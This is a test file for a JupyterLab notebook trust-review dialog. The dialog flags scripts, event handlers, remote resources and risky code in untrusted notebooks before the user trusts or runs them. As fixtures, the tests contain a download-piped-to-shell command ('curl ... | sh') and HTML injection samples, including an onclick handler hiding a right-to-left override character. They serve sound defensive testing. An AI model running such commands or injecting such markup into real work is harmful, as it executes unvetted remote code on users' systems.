import { nullTranslator } from '@jupyterlab/translation';
import * as React from 'react';

import { reviewNotebook, type Review } from '../engine/trust';
import { askAboutTrust, type TrustChoice } from './trustdialog';
import type { TrustQuestion } from './trustreview';

const trans = nullTranslator.load('nbwarden');

const toOutput = (html: string): object => ({
  output_type: 'display_data',
  metadata: {},
  data: { 'text/html': html }
});

const toReview = (...cells: readonly (readonly string[])[]): Review =>
  reviewNotebook({
    cells: cells.map(outputs => ({
      cell_type: 'code',
      source: '',
      outputs: outputs.map(toOutput)
    }))
  });

const SCRIPT = '<script>owned = 1</script>';
const LOOK = '<style>a { color: red }</style>';
const PICTURE = '<img src="https://a.example.org/p.png">';

const hostile = toReview(
  [LOOK],
  ['<a href="https://c.example.org" ping="https://b.example.org">x</a>'],
  [SCRIPT, '<b onclick="go(\'\u202etxt\')">x</b>'],
  [PICTURE]
);

let choice: Promise<TrustChoice>;
const revealed: number[] = [];

const node = (): HTMLElement => {
  const found = document.querySelector<HTMLElement>('.jp-Dialog');
  if (!found) {
    throw new Error('There is no dialog.');
  }
  return found;
};

const open = async (
  review: Review,
  question: TrustQuestion = 'trust'
): Promise<void> => {
  await React.act(async () => {
    choice = askAboutTrust({
      review,
      question,
      notes: ['A note.'],
      trans,
      onReveal: cell => revealed.push(cell),
      onReadOn: () => Promise.resolve({ text: 'read on', next: null })
    });
    await new Promise(resolve => setTimeout(resolve, 20));
  });
};

const buttons = (): HTMLButtonElement[] => [
  ...node().querySelectorAll<HTMLButtonElement>('.jp-Dialog-footer button')
];

const press = (label: string): void =>
  React.act(() =>
    [...node().querySelectorAll<HTMLButtonElement>('button')]
      .find(({ textContent }) => textContent === label)
      ?.click()
  );

const choose = (label: string): void =>
  React.act(() =>
    [...node().querySelectorAll('label')]
      .find(({ textContent }) => textContent?.startsWith(label))
      ?.querySelector('input')
      ?.click()
  );

const type = (target: Element, key: string, shiftKey = false): void => {
  const event = { key, shiftKey, bubbles: true, cancelable: true };
  React.act(() => {
    target.dispatchEvent(new KeyboardEvent('keydown', event));
  });
};

const seek = (text: string): void => {
  const field = node().querySelector<HTMLInputElement>('[type=search]');
  React.act(() => {
    const proto: unknown = Object.getPrototypeOf(field);
    const { set } = Object.getOwnPropertyDescriptor(proto, 'value') ?? {};
    set?.call(field, text);
    field?.dispatchEvent(new Event('input', { bubbles: true }));
  });
};

const texts = (selector: string): (string | null)[] =>
  [...node().querySelectorAll(selector)].map(each => each.textContent);

beforeAll(() => {
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });
});

afterEach(() => {
  // A dialog that a test left open.
  document.querySelectorAll('.jp-Dialog').forEach(each => type(each, 'Escape'));
});

describe('what the review shows', () => {
  it('is what acts, by cell, the most dangerous first, apart from the rest', async () => {
    await open(hostile);
    expect(texts('.nbw-Review-cell .nbw-Review-name')).toEqual([
      'Cell 3: 1 script, 1 event handler',
      'Cell 2: 1 remote resource'
    ]);
    expect(texts('.nbw-Review-lists > details > summary')).toEqual([
      '1 output would only look different',
      'Loads already, trusted or not: 1 remote resource'
    ]);
    expect(texts('.nbw-Review > p')).toEqual([
      '2 cells would act as soon as they are trusted: 1 script, 1 event handler, 1 remote resource. Nothing of it has run yet.',
      'A note.'
    ]);
  });

  it('is text and nothing else, whatever it holds', async () => {
    await open(hostile);
    const body = node().querySelector('.nbw-Review');
    expect(body?.textContent).toContain('<b onclick=');
    // The signs that turn the direction of letters are made visible.
    expect(body?.textContent).toContain('\\u{202e}');
    expect(body?.textContent).not.toContain('\u202e');
    expect(
      body?.querySelector(
        'script, form, img, style, iframe, [onclick], [ping], a'
      )
    ).toBeNull();
    expect('owned' in globalThis).toBe(false);
  });

  it('says on demand whose outputs they are, the ways to trust, and where signatures lie', async () => {
    await open(hostile);
    const [told, ...others] = document.querySelectorAll<HTMLDetailsElement>(
      '.nbw-Review-explained'
    );
    expect(others).toEqual([]);
    expect(told.open).toBe(false);
    expect(told.querySelector('summary')?.textContent).toBe('What is this?');
    for (const words of [
      'whoever wrote it chose them',
      'three ways to trust: run it again, trust it after a review, or share a database',
      'a file with the same content is trusted too',
      'nbsignatures.db',
      'notebook_secret'
    ]) {
      expect(told.textContent).toContain(words);
    }
  });

  it('can be searched, by what stands there', async () => {
    await open(hostile);
    seek('B.EXAMPLE');
    expect(texts('.nbw-Review-cell .nbw-Review-name')).toEqual([
      'Cell 2: 1 remote resource'
    ]);
  });

  it('says where nothing is found', async () => {
    await open(hostile);
    seek('nowhere');
    expect(texts('.nbw-Review-lists')).toEqual(['Nothing found.']);
    seek('');
    expect(texts('.nbw-Review-lists')[0]).toContain('Cell 3');
  });

  it('keeps chosen cells in sight, whatever is sought', async () => {
    await open(toReview([SCRIPT], [SCRIPT], [LOOK]));
    const [first] = node().querySelectorAll<HTMLInputElement>(
      'section input[type=checkbox]'
    );
    React.act(() => first.click());
    seek('cell 2');
    expect(texts('.nbw-Review-name')).toEqual([
      'Cell 1: 1 script',
      'Cell 2: 1 script'
    ]);
    expect(first.checked).toBe(true);
    React.act(() => first.click());
    expect(texts('.nbw-Review-name')).toEqual(['Cell 2: 1 script']);
  });

  it('folds what is long, and bounds what is endless', async () => {
    const many = `<b onclick="${'a'.repeat(120)}">x</b>`;
    await open(
      toReview([many.repeat(150), many.repeat(150), many.repeat(100)])
    );
    expect(node().querySelectorAll('.nbw-Review-row')).toHaveLength(300);
    expect(texts('.nbw-Review-rest > summary')).toEqual(['392 more']);
    expect(texts('.nbw-Review-rest > p')).toEqual([
      '100 more are not listed. Search to see them.'
    ]);
    const [excerpt] = texts('details.nbw-Review-excerpt > summary');
    expect(excerpt).toHaveLength(81);
  });

  it('lists risky code with its reason', async () => {
    const source = '!curl https://a.example.org/x | sh';
    await open(reviewNotebook({ cells: [{ cell_type: 'code', source }] }));
    expect(texts('.nbw-Review-code')).toEqual([
      'Cell 1, line 1: download that is run. A download is piped into an interpreter and runs unseen. Go to cell!curl https://a.example.org/x | sh'
    ]);
    press('Go to cell');
    expect(revealed).toEqual([0]);
    expect((await choice).kind).toBe('leave');
  });

  it('says of a run what runs, and then what its outputs do now', async () => {
    await open(
      reviewNotebook({
        cells: [
          {
            cell_type: 'code',
            source: '!curl https://a.example.org/x | sh',
            outputs: [toOutput(SCRIPT)]
          }
        ]
      }),
      'run'
    );
    expect(texts('.nbw-Review > p').slice(0, 2)).toEqual([
      'There is code to look at in 1 cell. Nothing of it has run yet.',
      '1 cell would act as soon as it is trusted: 1 script. Nothing of it has run yet.'
    ]);
    expect(texts('.nbw-Review-lists h4')).toEqual([
      'Code to look at before it runs',
      'Would act once it is trusted'
    ]);
  });

  it('says so where there is nothing', async () => {
    await open(toReview(['<b>a</b>']));
    expect(texts('.nbw-Review > p')[0]).toBe(
      'Nothing would act, and nothing would look different.'
    );
  });
});

describe('the choice', () => {
  it('is to leave it untrusted unless another one is made', async () => {
    await open(hostile);
    expect(buttons().map(({ textContent }) => textContent)).toEqual([
      'Leave untrusted',
      'Re-run instead',
      'Clear these outputs',
      'Trust selected cells',
      'Trust all'
    ]);
    expect(document.activeElement).toBe(buttons()[0]);
    type(node(), 'Escape');
    expect(await choice).toEqual({ kind: 'leave', cells: [] });
    await open(hostile);
    type(buttons()[0], 'Enter');
    expect(await choice).toEqual({ kind: 'leave', cells: [] });
  });

  it('is reached by Tab, from the last button to the content and back', async () => {
    await open(hostile);
    const stops = (): string | null | undefined =>
      document.activeElement?.textContent;
    buttons()[4].focus();
    type(node(), 'Tab');
    expect(stops()).toBe('What is this?');
    type(node(), 'Tab', true);
    expect(stops()).toBe('Trust all');
  });

  it('of cells waits for some, and names them', async () => {
    await open(hostile);
    const chosen = buttons()[3];
    expect(chosen.getAttribute('aria-disabled')).toBe('true');
    press('Trust selected cells');
    choose('Cell 3');
    choose('Cell 1');
    choose('Cell 3');
    choose('Cell 2');
    expect(chosen.getAttribute('aria-disabled')).toBe('false');
    press('Trust selected cells');
    expect(await choice).toEqual({ kind: 'trust-cells', cells: [0, 1] });
  });

  it.each([
    ['Trust all', 'trust-all'],
    ['Clear these outputs', 'clear'],
    ['Re-run instead', 'rerun']
  ])('%s is told', async (label, kind) => {
    await open(hostile);
    press(label);
    expect(await choice).toEqual({ kind, cells: [] });
  });

  it('is not made by Enter in the review', async () => {
    await open(hostile);
    const box = node().querySelector<HTMLElement>('[type=checkbox]');
    box?.focus();
    type(box ?? node(), 'Enter');
    expect(document.querySelector('.jp-Dialog')).not.toBeNull();
  });

  it('offers no cell of which a text acts', async () => {
    const source = '<button data-commandlinker-command="a">b</button>';
    await open(reviewNotebook({ cells: [{ cell_type: 'markdown', source }] }));
    expect(texts('.nbw-Review-name')).toEqual(['Cell 1: 1 JupyterLab command']);
    expect(node().querySelector('[type=checkbox]')).toBeNull();
  });

  it('of one cell offers no others', async () => {
    await open(hostile, 'cell');
    expect(node().querySelector('[type=checkbox]')).toBeNull();
    press('Trust this cell');
    expect((await choice).kind).toBe('trust-cells');
  });

  it('before a run is to run or not', async () => {
    await open(hostile, 'run');
    expect(buttons().map(({ textContent }) => textContent)).toEqual([
      'Do not run',
      'Run'
    ]);
    press('Run');
    expect((await choice).kind).toBe('run');
  });
});
